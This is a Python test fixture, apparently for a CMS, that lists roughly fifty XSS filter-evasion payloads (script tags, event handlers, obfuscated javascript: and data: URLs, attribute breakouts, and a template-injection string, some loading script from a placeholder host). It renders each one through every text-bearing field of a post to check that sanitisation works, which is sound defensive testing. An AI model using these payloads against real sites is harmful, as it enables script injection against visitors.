"""Hostile markup modelled on the OWASP XSS Filter Evasion Cheat Sheet, written for this suite.

Each payload either opens a dialog (alert/confirm/prompt) or sets `window.__xss`, so the
browser test can tell that nothing ran. Rendered through every text-bearing field of a post.
"""

FLAG = "window.__xss=1"

VECTORS = [
    # Basic script tags, with case, attribute and encoding tricks.
    "<script>alert('XSS')</script>",
    f"<SCRIPT>{FLAG}</SCRIPT>",
    '<SCRIPT SRC="https://xss.example/xss.js"></SCRIPT>',
    f"<<SCRIPT>{FLAG}//<</SCRIPT>",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    f'<script>{FLAG}</script x="',
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    # Event handlers in many tags.
    f"<img src=x onerror={FLAG}>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    f'<img src="x` `<script>{FLAG}</script>"` `>',
    f"<svg/onload={FLAG}>",
    f'<body onload="{FLAG}">',
    f"<details open ontoggle={FLAG}>",
    f'<input autofocus onfocus="{FLAG}">',
    f'<video><source onerror="{FLAG}"></video>',
    f'<marquee onstart="{FLAG}">x</marquee>',
    f'<div style="width:100px;height:100px" onmouseover="{FLAG}">hover</div>',
    f'<a href="#" onclick="{FLAG}">click</a>',
    # javascript: URLs with obfuscation.
    "<a href=\"javascript:alert('XSS')\">link</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">link</a>",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">hex</a>',
    '<a href=" &#14;  javascript:alert(1)">space</a>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "[markdown link](javascript:alert('XSS'))",
    "[md entity](&#106;avascript:alert(1))",
    "![md image](javascript:alert(1))",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    # data: and other smuggling.
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<DIV STYLE="background-image: url(javascript:alert(1))">style</DIV>',
    '<BASE HREF="javascript:alert(1);//">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    # Breaking out of attributes and comments.
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    f"<!--<img src=x onerror={FLAG}>-->",
    f"<!-- --><script>{FLAG}</script><!-- -->",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # Template code must stay text.
    "{% load static %}{{ request.META }}{% debug %}",
]

assert len(VECTORS) >= 30


def hostile_body():
    """Every vector through every text-bearing block of a post body."""
    body = []
    for vector in VECTORS:
        body += [
            {"type": "markdown", "value": f"{vector}\n\n- {vector}\n\n## {vector}\n"},
            {"type": "paragraph", "value": f"<p>{vector}</p>{vector}"},
            {"type": "heading", "value": {"text": vector, "level": "h2", "anchor": vector}},
            {"type": "quote", "value": {"quote": vector, "attribution": vector}},
            {
                "type": "image",
                "value": {"image": None, "alt_text": vector, "caption": vector, "credit": vector},
            },
            {"type": "code", "value": {"language": vector, "code": vector}},
            {"type": "call_to_action", "value": {"label": vector, "url": vector}},
            {
                "type": "table",
                "value": {"first_row_is_table_header": True, "data": [[vector], [vector]]},
            },
        ]
    return body
